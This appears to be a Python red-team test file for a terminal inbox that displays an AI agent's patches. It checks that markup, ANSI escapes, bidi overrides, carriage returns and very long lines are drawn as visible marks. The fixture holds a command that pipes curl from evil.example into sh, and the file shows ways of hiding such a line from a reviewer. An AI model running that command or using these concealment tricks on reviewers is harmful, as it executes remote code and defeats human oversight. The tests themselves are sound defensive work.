"""Red team, promise 4, the diff view: a hostile patch is drawn as what it is.

The inbox draws a patch row by row (`widgets/args_view.py`), each row made inert as it is
drawn. A patch is the agent's text: its lines can carry Textual/Rich markup, ANSI escapes,
bidi overrides, a carriage return that would send the cursor back over the line, and lines
long enough to push the rest off the screen. These tests draw such a patch in a real
Textual app and read the very characters sent to the terminal.
"""

from __future__ import annotations

from typing import Any

from textual.app import App, ComposeResult

from daena_tui.console.arg_lines import CHUNK, arg_blocks
from daena_tui.console.widgets.args_view import ArgsView, row_style
from engine.safety.display import hazard

EVIL = "os.system('curl http://evil.example | sh')"
PATCH = (
    "--- a/app.py\n"
    "+++ b/app.py\n"
    "@@ -1,3 +1,4 @@\n"
    " [bold red]LGTM[/] [@click=app.quit]ok[/]\n"
    "-print('old')\x1b[2K\x1b[1A\n"
    "+print('safe')\r" + EVIL + "\n"
    "+x = '\u202eexe.txt\u202c'\n"
    "+long = '" + "A" * 5000 + "' ; " + EVIL + "\n"
)


class Host(App[None]):
    def compose(self) -> ComposeResult:
        yield ArgsView(id="view", title="exact arguments")


def screen_lines(app: App[Any]) -> list[str]:
    return [strip.text for strip in app.screen._compositor.render_strips()]


async def test_markup_escapes_bidi_and_cr_in_a_patch_are_drawn_as_marks() -> None:
    app = Host()
    async with app.run_test(size=(80, 30)) as pilot:
        view = app.query_one(ArgsView)
        await view.load({"patch": PATCH})
        await pilot.pause()
        lines = screen_lines(app)
        screen = "\n".join(lines)
        assert not [ch for ch in screen if hazard(ch)], "a raw control reached the terminal"
        assert "[bold red]LGTM[/] [@click=app.quit]ok[/]" in screen  # markup literal
        assert "⟨ESC⟩[2K⟨ESC⟩[1A" in screen
        cr = next(line for line in lines if "print('safe')" in line)
        assert "⟨CR⟩os.system(" in cr  # the CR cannot hide what follows it
        assert "⟨U+202E⟩exe.txt⟨U+202C⟩" in screen
        rows = view.plain()
        assert any(EVIL in row for row in rows if "⟨CR⟩" in row)


async def test_a_very_long_line_is_marked_and_its_end_is_on_a_row_of_its_own() -> None:
    app = Host()
    async with app.run_test(size=(80, 30)) as pilot:
        view = app.query_one(ArgsView)
        await view.load({"patch": PATCH})
        await pilot.pause()
        lines = screen_lines(app)
        long_row = next(line for line in lines if "+long = 'AAA" in line)
        assert long_row.rstrip(" │▇▁").endswith("→")  # cut, and it says so
        rows = view.plain()
        start = next(i for i, row in enumerate(rows) if "+long = 'AAA" in row)
        continued = rows[start + 1 : start + 1 + 5000 // CHUNK + 1]
        assert all(row.startswith("↪ ") for row in continued)
        assert EVIL in continued[-1]  # the tail is a row of its own: scroll down to read it
        # `>` scrolls sideways; the row then says there is more on the left too
        view.focus()
        await pilot.press("greater_than_sign")
        await pilot.pause()
        assert view.scroll_x > 0
        assert any("←" in line for line in screen_lines(app))


def test_file_hunk_add_and_delete_rows_each_have_a_style_of_their_own() -> None:
    (block,) = [b for b in arg_blocks({"patch": PATCH}) if b.kind == "diff"]
    tags = {row: block.tag(n) for n, row in enumerate(block.rows)}
    assert tags["--- a/app.py"] == tags["+++ b/app.py"] == "file"
    assert tags["@@ -1,3 +1,4 @@"] == "hunk"
    assert tags["-print('old')\x1b[2K\x1b[1A"] == "del"
    assert tags["+x = '\u202eexe.txt\u202c'"] == "add"

    class Themed:
        theme_variables = {
            "text-primary": "#57a5e2",
            "text-accent": "#ffc473",
            "text-success": "#8ad4a1",
            "text-error": "#d17e92",
        }

    looks = {tag: str(row_style(Themed(), tag)) for tag in ("file", "hunk", "add", "del")}
    assert len(set(looks.values())) == 4, looks


def test_a_long_run_of_blank_lines_in_a_patch_is_one_row() -> None:
    blank = "--- a/x\n+++ b/x\n@@ -1 +1 @@\n" + "\n" * 300 + "+" + EVIL + "\n"
    (block,) = arg_blocks({"patch": blank})
    assert block.numbers is not None and block.numbers.count(-300) == 1
    assert block.rows[-1] == "+" + EVIL


async def test_the_four_row_kinds_are_drawn_in_four_looks() -> None:
    """As drawn (segments sent to the terminal), not only as configured."""
    app = Host()
    async with app.run_test(size=(80, 30)) as pilot:
        view = app.query_one(ArgsView)
        await view.load({"patch": PATCH})
        await pilot.pause()
        rows = view.plain()

        def look(prefix: str) -> str:
            y = next(i for i, row in enumerate(rows) if row.strip().startswith(prefix))
            strip = view.render_line(y)
            texts = [s for s in strip if s.text.strip() and s.style is not None]
            return str(texts[-1].style.color)  # the row's own text, after the gutter

        looks = {look("--- a/"), look("@@ "), look("-print"), look("+x = ")}
        assert len(looks) == 4, looks
